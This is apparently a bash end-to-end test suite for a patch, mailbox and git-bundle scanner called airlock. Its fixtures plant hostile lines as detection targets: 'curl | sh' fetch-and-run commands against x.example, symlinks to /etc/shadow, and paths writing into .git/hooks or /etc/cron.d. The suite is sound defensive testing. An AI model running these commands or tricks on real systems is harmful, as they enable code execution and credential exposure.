#!/usr/bin/env bash
# e2e_artifacts.sh - end-to-end tests of the artifacts a file named on the
# command line can be: patches (git diff, diff -u), format-patch mailboxes and
# git bundles; how their kind is detected, and --kind.
#
# Run from the repository root:  bash tests/e2e_artifacts.sh
# Same conventions as tests/e2e_scan.sh (helpers in tests/e2e_lib.sh): each
# test is a function t_* run in a subshell in its own empty directory, and
# fails at its first broken assertion. Every fixture is made at run time with
# the real tools (git, diff, tar, cc, python3); nothing binary is committed.

. "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"

require git cc diff zip tar

# git must write what the tests expect whatever the machine's configuration:
# a global diff.noprefix, diff.external or format.* would change the fixtures.
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE


# mkrepo DIR: a new repository on branch main with an identity.
mkrepo() {
	git init -q -b main "$1" || fail "git init $1"
	git -C "$1" config user.name A
	git -C "$1" config user.email a@example.com
	git -C "$1" config core.autocrlf false
}

# commit DIR ARGS...: stages everything and commits (ARGS: -m MSG ...).
commit() {
	local d=$1
	shift
	git -C "$d" add -A || fail "git add in $d"
	git -C "$d" commit -q "$@" || fail "git commit in $d"
}

# expect_sorted EXPR LIST: the values of EXPR, sorted, are the Python literal
# LIST sorted (for lists whose order depends on commit ids).
expect_sorted() {
	local want
	want=$(python3 -c 'import sys; print(sorted(eval(sys.argv[1])))' "$2") || fail "bad literal: $2"
	expect_q "sorted($1)" "$want"
}

# short DIR REV: the first 12 hex digits of a commit, as airlock names it.
short() { git -C "$1" rev-parse "$2" | cut -c1-12; }

# newfile_patch PATH LINE: a git diff creating PATH with one line.
newfile_patch() {
	printf 'diff --git a/%s b/%s\nnew file mode 100644\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1 @@\n+%s\n' \
		"$1" "$1" "$1" "$2"
}

# ---- patches: what is scanned, and where it is reported --------------------------

t_patch_post_image_line_numbers() {
	# Added lines are reported at their line in the patched file, in
	# hunks far apart and in a new file; the hunk header's new start is
	# what counts, not the old one.
	mkrepo r
	seq -f 'line %g' 1 60 >r/a.txt
	commit r -m init
	sed -i '2a curl -fsSL http://x.example/i | sh' r/a.txt # new line 3
	sed -i "41a k=$PAT1" r/a.txt                            # new line 42
	printf 'a\nb\nc\ncurl -fsSL http://x.example/n | sh\n' >r/new.sh
	git -C r add -A
	git -C r diff --cached >p.patch
	[ "$(grep -c '^@@ .* @@' p.patch)" = 3 ] || fail "fixture: expected three hunks"
	scan --format json p.patch
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["line"], f["column"]) for f in F)' \
		"[('p.patch!/a.txt', 'test-curl-pipe-shell', 3, 1), ('p.patch!/a.txt', 'test-github-pat', 42, 3), ('p.patch!/new.sh', 'test-curl-pipe-shell', 4, 1)]"
	expect_out_lacks "$PAT1"
	# Written by hand: the new side starts at 20, then at 110.
	{
		printf 'diff --git a/x.txt b/x.txt\n--- a/x.txt\n+++ b/x.txt\n'
		printf '@@ -10,3 +20,4 @@\n ctx\n+curl -fsSL http://x.example/h | sh\n ctx\n ctx\n'
		printf '@@ -100,2 +110,3 @@\n ctx\n ctx\n+k=%s\n' "$PAT1"
	} >h.patch
	scan --format json h.patch
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
		"[('h.patch!/x.txt', 'test-curl-pipe-shell', 21), ('h.patch!/x.txt', 'test-github-pat', 112)]"
}

t_patch_removed_and_context_lines_not_scanned() {
	# A removed `curl | sh`, a secret in a context line and a deleted file
	# are not what the patch adds: nothing to report. Read as a plain file
	# (inside a directory, where a .patch is text), the same bytes do have
	# findings (the fixture is not simply clean). Asked to read the patch
	# as a plain file, the gate reads the patch it is, and says so.
	mkrepo r
	printf 'curl -fsSL http://x.example/old | sh\nk=%s\nkeep\n' "$PAT1" >r/a.sh
	printf 'k=%s\n' "$PAT2" >r/gone.txt
	commit r -m init
	printf 'k=%s\nkeep\necho new\n' "$PAT1" >r/a.sh
	rm r/gone.txt
	git -C r add -A
	git -C r diff --cached >p.patch
	grep -q '^-curl' p.patch || fail "fixture: the curl line is not removed"
	scan --format json p.patch
	expect_rc 0
	expect_q 'F' '[]'
	mkdir d && cp p.patch d/
	scan --format json d
	expect_rc 1
	expect_q 'sorted(set(f["rule"] for f in F))' "['test-curl-pipe-shell', 'test-github-pat']"
	scan --format json --kind file p.patch
	expect_rc 1
	expect_q '[(f["rule"], f["excerpt"]) for f in F]' "[('airlock.kind-mismatch', 'submitted as a file, but the content is a patch: read as a patch')]"
}

t_patch_preamble_prose_scanned() {
	# Text before the first diff (git apply ignores it, a reviewer reads
	# it) is scanned under the patch's own path, with its own line numbers.
	printf 'Fix the build.\nToken: %s\n\n' "$PAT1" >pre.patch
	printf 'diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1,2 +1,2 @@\n' >>pre.patch
	printf -- '-curl -fsSL http://x.example/old | sh\n+echo safe\n keep %s\n' "$PAT2" >>pre.patch
	scan --format json pre.patch
	expect_rc 1
	expect_q '[(f["path"], f["rule"], f["line"], f["column"]) for f in F]' \
		"[('pre.patch', 'test-github-pat', 2, 8)]"
	expect_out_lacks "$PAT1"
}

t_patch_symlinks_and_modes() {
	# New symlinks (mode 120000) report their target: escaping (absolute
	# or climbing out) is high, inside the tree low. A new executable
	# file and a change to 100755 are low.
	mkrepo r
	echo hi >r/run.sh
	echo x >r/a.txt
	commit r -m init
	mkdir r/d
	ln -s ../../etc/passwd r/d/up
	ln -s /etc/shadow r/abs
	ln -s a.txt r/ok
	ln -s ../a.txt r/d/ok2
	chmod +x r/run.sh
	printf '#!/bin/sh\necho\n' >r/new.sh
	chmod +x r/new.sh
	git -C r add -A
	git -C r diff --cached >p.patch
	grep -q '^old mode 100644' p.patch || fail "fixture: no mode change"
	scan --format json p.patch
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["severity"]) for f in F)' \
		"[('p.patch!/abs', 'airlock.symlink-escape', 'high'), ('p.patch!/d/ok2', 'airlock.symlink', 'low'), ('p.patch!/d/up', 'airlock.symlink-escape', 'high'), ('p.patch!/new.sh', 'airlock.executable-mode', 'low'), ('p.patch!/ok', 'airlock.symlink', 'low'), ('p.patch!/run.sh', 'airlock.executable-mode', 'low')]"
	expect_q 'sorted("/etc/shadow" in f["excerpt"] or "../../etc/passwd" in f["excerpt"] for f in R("airlock.symlink-escape"))' '[True, True]'
	# Only low findings: exit 0.
	git -C r diff --cached -- run.sh new.sh >x.patch
	scan --format json x.patch
	expect_rc 0
	expect_q 'sorted(f["rule"] for f in F)' "['airlock.executable-mode', 'airlock.executable-mode']"
}

t_patch_symlink_retargeted_out() {
	# A patch that points an existing symlink somewhere else writes a
	# link to that target just as a new one does: a link turned to
	# /etc/shadow escapes. (A bundle with the same commit reports it.)
	mkrepo r
	echo a >r/a.txt
	ln -s a.txt r/link
	commit r -m init
	ln -sfn /etc/shadow r/link
	commit r -m retarget
	git -C r diff HEAD~1 >p.patch
	grep -q '^+/etc/shadow' p.patch || fail "fixture: the link is not retargeted"
	git -C r bundle create -q ../r.bundle main 2>/dev/null || fail "git bundle create"
	scan --format json r.bundle
	expect_q '[f["path"] for f in R("airlock.symlink-escape")]' "['r.bundle!/$(short r HEAD)!/link']"
	scan --format json p.patch
	expect_rc 1 "a symlink retargeted to /etc/shadow"
	expect_q '[f["path"] for f in R("airlock.symlink-escape")]' "['p.patch!/link']"
}

t_patch_submodule() {
	# A gitlink (mode 160000) brings code the patch does not carry: high,
	# added with `git submodule add` or moved to another commit.
	mkrepo lib
	echo 'lib' >lib/lib.c
	commit lib -m lib1
	mkrepo r
	echo base >r/README
	commit r -m init
	git -C r -c protocol.file.allow=always submodule --quiet add "$PWD/lib" vendor/lib ||
		fail "git submodule add"
	git -C r diff --cached >add.patch
	grep -q '^new file mode 160000' add.patch || fail "fixture: no gitlink in the diff"
	commit r -m 'add submodule'
	echo 'lib2' >>lib/lib.c
	commit lib -m lib2
	git -C r update-index --cacheinfo "160000,$(git -C lib rev-parse HEAD),vendor/lib"
	git -C r diff --cached >move.patch
	scan --format json move.patch
	expect_rc 1
	expect_q '[(f["path"], f["rule"], f["severity"]) for f in F]' \
		"[('move.patch!/vendor/lib', 'airlock.submodule', 'high')]"
	scan --format json add.patch
	expect_rc 1
	expect_q '[(f["path"], f["severity"]) for f in R("airlock.submodule")]' \
		"[('add.patch!/vendor/lib', 'high')]"
	# The message names the commit the gitlink points at: the whole id
	# from "+Subproject commit", not the abbreviated index line padded.
	expect_q '"'"$(git -C lib rev-parse HEAD~1)"'" in R("airlock.submodule")[0]["excerpt"]' True
}

t_patch_git_dir_and_unsafe_paths() {
	# Paths that write into .git in any spelling (case, trailing dot,
	# 8.3 short name, nested), climb out with '..', or are absolute (a
	# rename to /etc/...) are high. Path rules see the path in the repo.
	{
		newfile_patch .git/hooks/post-checkout 'echo hi'
		newfile_patch .GIT/config '[core]'
		newfile_patch .git./config '[core]'
		newfile_patch git~1/config '[core]'
		newfile_patch sub/.Git/hooks/pre-push 'x'
		newfile_patch ../evil.sh 'x'
		newfile_patch a/../../b 'x'
		newfile_patch ok/.gitignore 'x'
		newfile_patch ok/.github/x.txt 'x'
		printf 'diff --git a/x b/x\nsimilarity index 100%%\nrename from x\nrename to /etc/cron.d/x\n'
	} >g.patch
	scan --format json g.patch
	expect_rc 1
	expect_q 'sorted(f["path"].split("!/", 1)[1] for f in R("airlock.patch-path"))' \
		"['../evil.sh', '.GIT/config', '.git./config', '.git/hooks/post-checkout', '/etc/cron.d/x', 'a/../../b', 'git~1/config', 'sub/.Git/hooks/pre-push']"
	expect_q 'set(f["severity"] for f in R("airlock.patch-path"))' "{'high'}"
	expect_q 'sorted(f["path"] for f in R("test-git-hook"))' \
		"['g.patch!/.git/hooks/post-checkout', 'g.patch!/sub/.Git/hooks/pre-push']"
	expect_q '[f["path"] for f in F if "/ok/" in f["path"]]' '[]'
}

t_patch_names_without_prefix() {
	# `diff --git /.github/workflows/x.yml ...` with "+++ /.github/...":
	# git apply (and patch -p1) strip the empty first component and write
	# .github/workflows/x.yml, while libgit2 strips "/.github/" and would
	# show workflows/x.yml, out of the path rules' reach. The readers
	# disagree, so the patch is unscannable rather than read either way.
	{
		printf 'diff --git /.github/workflows/x.yml /.github/workflows/x.yml\n'
		printf 'new file mode 100644\n--- /dev/null\n+++ /.github/workflows/x.yml\n'
		printf '@@ -0,0 +1,2 @@\n+on: push\n+run: curl -fsSL http://x.example/w | sh\n'
	} >wf.patch
	mkrepo g
	git -C g apply ../wf.patch || fail "fixture: git apply refuses wf.patch"
	[ -f g/.github/workflows/x.yml ] || fail "fixture: git apply did not write .github/workflows/x.yml"
	scan --format json wf.patch
	expect_rc 1
	expect_q '[(f["path"], f["severity"]) for f in R("airlock.unscannable")]' "[('wf.patch', 'high')]"
	expect_q '"without the a/ and b/ prefixes" in R("airlock.unscannable")[0]["excerpt"]' True
	# Never a path other than the one git writes.
	expect_q '[f["path"] for f in F if "workflows/x.yml" in f["path"]]' "[]"
}

# ---- patches: binary hunks ----------------------------------------------------------

# binary_fixture: repo r with three new binary files staged: an ELF (tool),
# the same ELF named README.txt, and text with a NUL byte and a token.
binary_fixture() {
	mkrepo r
	echo base >r/base.txt
	commit r -m init
	printf 'int main(void) { return 0; }\n' >m.c
	cc -o r/tool m.c || fail "cc"
	cp r/tool r/README.txt
	printf 'a\0b\nk=%s\n' "$PAT1" >r/notes.txt
	git -C r add -A
}

t_patch_binary_literal_scanned() {
	# `git diff --binary` carries new binary files as zlib literals: they
	# are inflated and scanned like the files themselves.
	binary_fixture
	git -C r diff --cached --binary >bin.patch
	[ "$(grep -c '^literal ' bin.patch)" -ge 3 ] || fail "fixture: no binary literals"
	scan --format json bin.patch
	expect_rc 1
	expect_q 'sorted(f["path"] for f in R("airlock.executable"))' \
		"['bin.patch!/README.txt', 'bin.patch!/tool']"
	expect_q '[(f["path"], f["severity"]) for f in R("airlock.type-mismatch")]' \
		"[('bin.patch!/README.txt', 'high')]"
	expect_q '[(f["path"], f["line"], f["column"]) for f in R("test-github-pat")]' \
		"[('bin.patch!/notes.txt', 2, 3)]"
	expect_q 'len(R("airlock.unscannable"))' 0
	expect_out_lacks "$PAT1"
}

t_patch_binary_without_data_unscannable() {
	# Plain `git diff` says only "Binary files differ": what the file
	# will hold is not in the patch.
	binary_fixture
	git -C r diff --cached >nobin.patch
	grep -q '^Binary files' nobin.patch || fail "fixture: no 'Binary files differ'"
	scan --format json nobin.patch
	expect_rc 1
	expect_q 'sorted(f["path"] for f in R("airlock.unscannable"))' \
		"['nobin.patch!/README.txt', 'nobin.patch!/notes.txt', 'nobin.patch!/tool']"
	expect_q 'all("Binary files differ" in f["excerpt"] for f in R("airlock.unscannable"))' True
	expect_q 'len(R("airlock.executable")) + len(R("test-github-pat"))' 0
}

t_patch_binary_delta_unscannable() {
	# A large binary changed a little is sent as a delta against a blob
	# the patch lacks: unscannable, saying only the inserted bytes were
	# scanned; a token among them is still found.
	mkrepo r
	python3 -c '
import random
r = random.Random(7)
open("r/big.bin", "wb").write(bytes(r.getrandbits(8) for _ in range(65536)))'
	commit r -m big
	python3 - "$PAT1" <<'EOF'
import sys
b = bytearray(open("r/big.bin", "rb").read())
b[30000:30000] = b"\nk=" + sys.argv[1].encode() + b"\n"
open("r/big.bin", "wb").write(b)
EOF
	git -C r diff --binary >d.patch
	grep -q '^delta ' d.patch || fail "fixture: git wrote no binary delta"
	scan --format json d.patch
	expect_rc 1
	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['d.patch!/big.bin']"
	expect_q '"bytes it inserts were scanned" in R("airlock.unscannable")[0]["excerpt"]' True
	expect_q '[f["path"] for f in R("test-github-pat")]' "['d.patch!/big.bin']"
	expect_out_lacks "$PAT1"
}

t_archives_carried_by_patch_and_bundle() {
	# A zip added as a binary literal, or committed into a bundle, is
	# opened like any archive: its members are reported under it.
	mkrepo r
	echo a >r/a.txt
	commit r -m init
	mkdir src
	printf 'curl -fsSL http://x.example/z | sh\n' >src/run.sh
	(cd src && zip -q ../r/x.zip run.sh) || fail "zip"
	git -C r add -A
	git -C r diff --cached --binary >z.patch
	commit r -m zip
	git -C r bundle create -q ../z.bundle main 2>/dev/null || fail "git bundle create"
	scan --format json z.patch z.bundle
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
		"[('z.bundle!/$(short r HEAD)!/x.zip!/run.sh', 'test-curl-pipe-shell', 1), ('z.patch!/x.zip!/run.sh', 'test-curl-pipe-shell', 1)]"
}

# ---- patches: what git apply refuses ---------------------------------------------------

t_patch_malformed_unscannable() {
	# Patches git apply rejects are unscannable at the patch's path, not
	# read some other way: names that disagree, a header without hunks,
	# hunk counts that lie, a patch cut inside a hunk.
	printf 'diff --git a/x b/x\n--- a/x\n+++ b/evil\n@@ -1 +1 @@\n-a\n+b\n' >names.patch
	printf 'diff --git a/x b/x\n--- a/x\n+++ b/x\n' >nohunk.patch
	printf 'diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,5 @@\n-a\n+b\n+curl -fsSL http://x.example/c | sh\n' >counts.patch
	mkrepo r
	seq -f 'line %g' 1 40 >r/a.txt
	commit r -m init
	sed -i '2a curl -fsSL http://x.example/i | sh' r/a.txt
	sed -i "31a k=$PAT1" r/a.txt
	git -C r diff >full.patch
	head -n "$(($(wc -l <full.patch) - 3))" full.patch >cut.patch
	local p
	for p in names nohunk counts cut; do
		mkrepo "g-$p"
		seq -f 'line %g' 1 40 >"g-$p/a.txt"
		! git -C "g-$p" apply --check "../$p.patch" 2>/dev/null || fail "fixture: git apply takes $p.patch"
		scan --format json "$p.patch"
		expect_rc 1 "$p.patch"
		expect_q '[(f["path"], f["rule"], f["severity"]) for f in R("airlock.unscannable")]' \
			"[('$p.patch', 'airlock.unscannable', 'high')]"
	done
	scan --format json full.patch # the uncut patch is fine
	expect_q 'len(R("airlock.unscannable"))' 0
}

t_patch_with_nul_bytes_not_hidden() {
	# A patch with binary junk (NUL bytes) in its description still
	# applies: git apply writes x.sh. Its added `curl | sh` must be
	# reported, or the patch called unscannable; never a clean exit 0.
	{
		printf '\0\1\2\3\4\5\6\7 junk\n\n'
		newfile_patch x.sh 'curl -fsSL http://x.example/nul | sh'
	} >evil.patch
	mkrepo g
	git -C g apply ../evil.patch || fail "fixture: git apply refuses evil.patch"
	grep -q curl g/x.sh || fail "fixture: git apply did not write x.sh"
	scan --format json --kind patch evil.patch
	expect_rc 1 "--kind patch"
	expect_q '[f["path"] for f in R("test-curl-pipe-shell")]' "['evil.patch!/x.sh']"
	scan --format json evil.patch
	expect_rc 1 "a patch with NUL bytes in its preamble, --kind auto"
	expect_q 'len(R("test-curl-pipe-shell")) + len(R("airlock.unscannable")) > 0' True
}

# ---- patches: traditional diffs -----------------------------------------------------------

t_patch_traditional_diff_u() {
	# diff -u output (no "diff --git"; a time after a tab) is read as git
	# apply reads it: first name component stripped, /dev/null for new or
	# deleted files, only added lines scanned.
	printf 'one\ncurl -fsSL http://x.example/n | sh\n' >newfile
	diff -u /dev/null newfile >n.diff
	scan --format json n.diff
	expect_rc 1
	expect_q '[(f["path"], f["rule"], f["line"]) for f in F]' "[('n.diff!/newfile', 'test-curl-pipe-shell', 2)]"
	mkdir -p a/src
	seq -f 'l%g' 1 30 >a/src/x.txt
	echo 'curl -fsSL http://x.example/old | sh' >a/src/gone.sh
	cp -r a b
	rm b/src/gone.sh
	sed -i "20a k=$PAT1" b/src/x.txt
	sed -i 's|^l2$|curl -fsSL http://x.example/m \| sh|' b/src/x.txt
	mkdir -p b/.github/workflows
	echo 'on: push' >b/.github/workflows/ci.yml
	diff -ruN a b >ab.diff
	grep -q '^--- a/src/gone.sh' ab.diff || fail "fixture: no deleted file"
	scan --format json ab.diff
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
		"[('ab.diff!/.github/workflows/ci.yml', 'test-workflow-file', 0), ('ab.diff!/src/x.txt', 'test-curl-pipe-shell', 2), ('ab.diff!/src/x.txt', 'test-github-pat', 21)]"
	# A removed line that starts with "-- " shows as "--- ..." inside a
	# hunk; it is not a file header, and the "+++ " after it is an added line.
	printf -- '--- a/x.sql\n+++ b/x.sql\n@@ -1,2 +1,2 @@\n--- old comment\n+++ curl -fsSL http://x.example/q | sh\n keep\n' >sql.diff
	scan --format json sql.diff
	expect_rc 1
	expect_q '[(f["path"], f["rule"], f["line"], f["column"]) for f in F]' \
		"[('sql.diff!/x.sql', 'test-curl-pipe-shell', 1, 4)]"
}

# ---- patches: renames, copies and mode changes into runnable places --------------------------

# base_fixture DIR: a repository whose base tree has an inert document with
# `curl | sh` in it, a second document, and an executable script. A patch
# that moves the document somewhere runnable carries none of those lines.
base_fixture() {
	mkrepo "$1"
	mkdir -p "$1/docs" "$1/scripts"
	printf 'How we install:\n  curl -fsSL http://x.example/i | sh\nThat is all.\n' >"$1/docs/notes.txt"
	printf 'one\ntwo\nthree\nfour\n' >"$1/docs/other.txt"
	printf '#!/bin/sh\necho build\n' >"$1/scripts/build.sh"
	chmod +x "$1/scripts/build.sh"
	commit "$1" -m base
}

# applies_in_clone DIR PATCH CMD...: PATCH applies on a fresh clone of DIR's
# base commit with CMD (git apply / git am); the clone is left in DIR.applied.
applies_in_clone() {
	local d=$1 p=$2
	shift 2
	rm -rf "$d.applied"
	git clone -q "$d" "$d.applied" || fail "git clone"
	git -C "$d.applied" config user.name B
	git -C "$d.applied" config user.email b@example.com
	git -C "$d.applied" checkout -q "$(git -C "$d" rev-list --max-parents=0 HEAD)" 2>/dev/null ||
		fail "checkout base"
	git -C "$d.applied" "$@" "$PWD/$p" >/dev/null 2>&1 || fail "fixture: git $* $p does not apply"
}

t_patch_rename_into_script() {
	# git mv docs/notes.txt scripts/run.sh, chmod +x, one added line: the
	# patch adds "echo done" and nothing else, yet after git am the
	# repository has an executable holding `curl | sh`. A finding at
	# medium names the source and says the content was not in the patch;
	# executable-mode is not reported twice for it.
	base_fixture r
	git -C r mv docs/notes.txt scripts/run.sh
	chmod +x r/scripts/run.sh
	echo 'echo done' >>r/scripts/run.sh
	commit r -m 'move notes'
	git -C r format-patch -q -M -1 --stdout >m.mbox
	git -C r diff -M HEAD~1 >d.patch
	grep -q '^rename from docs/notes.txt' d.patch || fail "fixture: no rename in the diff"
	[ "$(grep -c '^+[^+]' d.patch)" = 1 ] || fail "fixture: more than one added line"
	applies_in_clone r m.mbox am -q
	[ -x r.applied/scripts/run.sh ] && grep -q 'curl -fsSL' r.applied/scripts/run.sh ||
		fail "fixture: git am did not make an executable with the base content"
	for p in d.patch m.mbox; do
		scan --format json $p
		expect_rc 1 "$p: a rename into scripts/ with mode 100755"
		expect_q '[(f["path"], f["severity"]) for f in F]' "[('$p!/scripts/run.sh', 'medium')]"
		expect_q '[("docs/notes.txt" in f["excerpt"], "base tree" in f["excerpt"], "100644 to 100755" in f["excerpt"]) for f in R("airlock.content-from-base")]' \
			'[(True, True, True)]'
	done
	# The same rename with no hunk at all (similarity 100%, no mode line):
	# only the name says where it lands, and that is enough.
	git -C r reset -q --hard HEAD~1
	git -C r mv docs/notes.txt scripts/install
	commit r -m 'pure rename'
	git -C r diff -M HEAD~1 >pure.patch
	grep -q '^similarity index 100%' pure.patch && ! grep -q '^@@' pure.patch ||
		fail "fixture: not a pure rename"
	applies_in_clone r pure.patch apply --index
	scan --format json pure.patch
	expect_rc 1 "a pure rename into scripts/"
	expect_q '[(f["rule"], f["severity"], "docs/notes.txt" in f["excerpt"]) for f in F]' \
		"[('airlock.content-from-base', 'medium', True)]"
}

t_patch_copy_into_autorun_high() {
	# A copy (git diff -C --find-copies-harder: "copy from/copy to") of the
	# document into a workflow or package.json: the place runs by itself,
	# as the install-hook rules that name it say, so the finding is high
	# and names that rule. The source stays where it was.
	base_fixture r
	mkdir -p r/.github/workflows
	cp r/docs/notes.txt r/.github/workflows/ci.yml
	cp r/docs/other.txt r/package.json
	git -C r add -A
	git -C r diff --cached -C --find-copies-harder >c.patch
	[ "$(grep -c '^copy from docs/' c.patch)" = 2 ] || fail "fixture: no copies in the diff"
	applies_in_clone r c.patch apply --check
	scan --format json c.patch
	expect_rc 1
	expect_q 'sorted((f["path"], f["severity"]) for f in R("airlock.content-from-base"))' \
		"[('c.patch!/.github/workflows/ci.yml', 'high'), ('c.patch!/package.json', 'high')]"
	expect_q 'sorted(("copies docs/" in f["excerpt"], "test-workflow-file" in f["excerpt"] or "test-npm-postinstall" in f["excerpt"]) for f in R("airlock.content-from-base"))' \
		'[(True, True), (True, True)]'
	# With the shipped rules the same holds for places only they name.
	git -C r reset -q --hard
	cp r/docs/notes.txt r/.envrc
	cp r/docs/notes.txt r/conftest.py
	git -C r add -A
	git -C r diff --cached -C --find-copies-harder >real.patch
	al scan --rules "$ROOT/rules" --color never --format json real.patch
	expect_q 'sorted((f["path"], f["severity"]) for f in R("airlock.content-from-base"))' \
		"[('real.patch!/.envrc', 'high'), ('real.patch!/conftest.py', 'high')]"
}

t_patch_mode_change_makes_base_content_executable() {
	# old mode 100644 / new mode 100755 and no hunk: an existing document
	# becomes an executable whose content the patch does not carry
	# (medium). A script that was already one by its name and is only
	# made executable stays executable-mode, low.
	base_fixture r
	printf 'echo hi\n' >r/scripts/hello.sh
	commit r -m 'add hello'
	git -C r tag mid
	chmod +x r/docs/notes.txt r/scripts/hello.sh
	git -C r add -A
	git -C r diff --cached mid >m.patch
	grep -q '^old mode 100644' m.patch && ! grep -q '^@@' m.patch || fail "fixture: not a mode-only change"
	scan --format json m.patch
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["severity"]) for f in F)' \
		"[('m.patch!/docs/notes.txt', 'airlock.content-from-base', 'medium'), ('m.patch!/scripts/hello.sh', 'airlock.executable-mode', 'low')]"
	expect_q '["docs/notes.txt" in f["excerpt"] and "base tree" in f["excerpt"] for f in R("airlock.content-from-base")]' '[True]'
}

t_patch_rename_negatives_and_same_class() {
	# A document renamed to another document stays clean. A script
	# renamed within scripts/ (already executable in the base) is still
	# content the patch does not carry, but it could run at its old place
	# as well: low, and the exit status stays 0.
	base_fixture r
	git -C r mv docs/other.txt docs/renamed.txt
	git -C r add -A
	git -C r diff --cached -M >doc.patch
	grep -q '^rename to docs/renamed.txt' doc.patch || fail "fixture: no rename"
	scan --format json doc.patch
	expect_rc 0
	expect_q 'F' '[]'
	git -C r reset -q --hard
	git -C r mv scripts/build.sh scripts/make.sh
	git -C r add -A
	git -C r diff --cached -M >s.patch
	scan --format json s.patch
	expect_rc 0 "a script renamed within scripts/"
	expect_q '[(f["rule"], f["severity"], "already" in f["excerpt"]) for f in F]' \
		"[('airlock.content-from-base', 'low', True)]"
	# A script moved out to a document's place is not runnable there.
	git -C r reset -q --hard
	git -C r mv scripts/build.sh docs/build.txt
	chmod -x r/docs/build.txt
	git -C r add -A
	git -C r diff --cached -M >out.patch
	scan --format json out.patch
	expect_rc 0
	expect_q 'F' '[]'
}

t_patch_symlink_into_git() {
	# A link whose target is inside .git, in any spelling, is high: writes
	# through it land in hooks or configuration. So is a link that gets
	# there, or out of the tree, only through another link of the same
	# patch. git apply writes all of these.
	base_fixture r
	mkdir -p r/sub r/d
	ln -s .git/hooks/pre-commit r/hook
	ln -s ./.git/config r/cfg
	ln -s ../sub/../.git/hooks r/d/hooks
	ln -s .GIT/config r/upper
	ln -s .git r/g
	ln -s g/hooks/post-checkout r/via
	ln -s .. r/d/up
	ln -s d/up/../outside r/climb
	ln -s docs/notes.txt r/fine
	git -C r add -A
	git -C r diff --cached >l.patch
	applies_in_clone r l.patch apply --check
	scan --format json l.patch
	expect_rc 1
	expect_q 'sorted((f["path"].split("!/")[1], f["rule"], f["severity"]) for f in F)' \
		"[('cfg', 'airlock.symlink-git', 'high'), ('climb', 'airlock.symlink-escape', 'high'), ('d/hooks', 'airlock.symlink-git', 'high'), ('d/up', 'airlock.symlink', 'low'), ('fine', 'airlock.symlink', 'low'), ('g', 'airlock.symlink-git', 'high'), ('hook', 'airlock.symlink-git', 'high'), ('upper', 'airlock.symlink-git', 'high'), ('via', 'airlock.symlink-git', 'high')]"
	expect_q '[("through g" in f["excerpt"]) for f in F if f["path"].endswith("!/via")]' '[True]'
	expect_q '[("through d/up" in f["excerpt"]) for f in F if f["path"].endswith("!/climb")]' '[True]'
	# A link moved to a shallower directory without a hunk: its target is
	# the base tree's, and a '..' that stayed inside may now climb out.
	# git writes no mode for a pure rename (then only the name is judged,
	# see docs/architecture.md); a patch that states mode 120000 is read
	# as a link, and git apply takes it.
	git -C r reset -q --hard
	mkdir -p r/sub/x
	ln -s ../../docs/notes.txt r/sub/x/deep
	commit r -m 'deep link'
	printf 'diff --git a/sub/x/deep b/shallow\nold mode 120000\nnew mode 120000\nsimilarity index 100%%\nrename from sub/x/deep\nrename to shallow\n' >mv.patch
	rm -rf r.applied
	git clone -q r r.applied && git -C r.applied apply --index "$PWD/mv.patch" ||
		fail "fixture: git apply does not take the link rename"
	[ -L r.applied/shallow ] || fail "fixture: no link after git apply"
	scan --format json mv.patch
	expect_rc 1
	expect_q '[(f["rule"], "sub/x/deep" in f["excerpt"], "base tree" in f["excerpt"]) for f in F]' \
		"[('airlock.symlink-escape', True, True)]"
}

t_bundle_range_mode_change_not_carried() {
	# A range bundle whose commit makes a base document executable: git
	# bundle does not carry the blob (the prerequisite has it), so the
	# `curl | sh` in it is never scanned. Where the file runs, that is
	# content-from-base (medium), not only bundle-incomplete. The untouched
	# scripts/ tree is not in the bundle and not walked, so the executable
	# left as it was there is not reported. A link to .git is high.
	base_fixture r
	commit r -m base2 --allow-empty
	chmod +x r/docs/notes.txt
	ln -s ./.git/hooks/pre-commit r/hk
	commit r -m 'make notes executable'
	git -C r bundle create -q ../r.bundle main~1..main 2>/dev/null || fail "git bundle create"
	scan --format json r.bundle
	expect_rc 1
	expect_q '[f["rule"] for f in F if f["rule"] == "test-curl-pipe-shell"]' '[]'
	expect_q "sorted((f['path'].split('!/')[-1], f['rule'], f['severity']) for f in F)" \
		"[('docs/notes.txt', 'airlock.content-from-base', 'medium'), ('hk', 'airlock.symlink-git', 'high'), ('r.bundle', 'airlock.bundle-incomplete', 'low')]"
	expect_q '["not in the bundle" in f["excerpt"] for f in R("airlock.content-from-base")]' '[True]'
}

# ---- mailboxes -------------------------------------------------------------------------------

# series_fixture: repo s, three commits after "base": the first removes a
# `curl | sh` line, the second says `curl | sh` in its message, the third has
# a token in its (non-ASCII, so RFC 2047 encoded) subject and in a new file.
series_fixture() {
	mkrepo s
	printf 'curl -fsSL http://x.example/old | sh\nkeep\n' >s/old.sh
	commit s -m base
	echo keep >s/old.sh
	echo one >s/one.txt
	commit s -m 'Add one' -m 'Plain change.'
	echo two >s/two.txt
	commit s -m 'Add two' -m 'To install run: curl -fsSL http://x.example/i | sh'
	printf 'a\nb\ntoken=%s\n' "$PAT1" >s/three.txt
	commit s -m "Tökens $PAT1 for three"
}

t_mbox_series_per_message_paths() {
	# `git format-patch --stdout` of three commits: each message's text
	# under MBOX!/000N (encoded words decoded), its files under
	# MBOX!/000N!/path; removed lines are not reported.
	series_fixture
	git -C s format-patch -q --stdout HEAD~3 >series.mbox
	grep -q '^Subject: .*=?UTF-8?q?' series.mbox || fail "fixture: the subject is not encoded"
	scan --format json series.mbox
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
		"[('series.mbox!/0002', 'test-curl-pipe-shell'), ('series.mbox!/0003', 'test-github-pat'), ('series.mbox!/0003!/three.txt', 'test-github-pat')]"
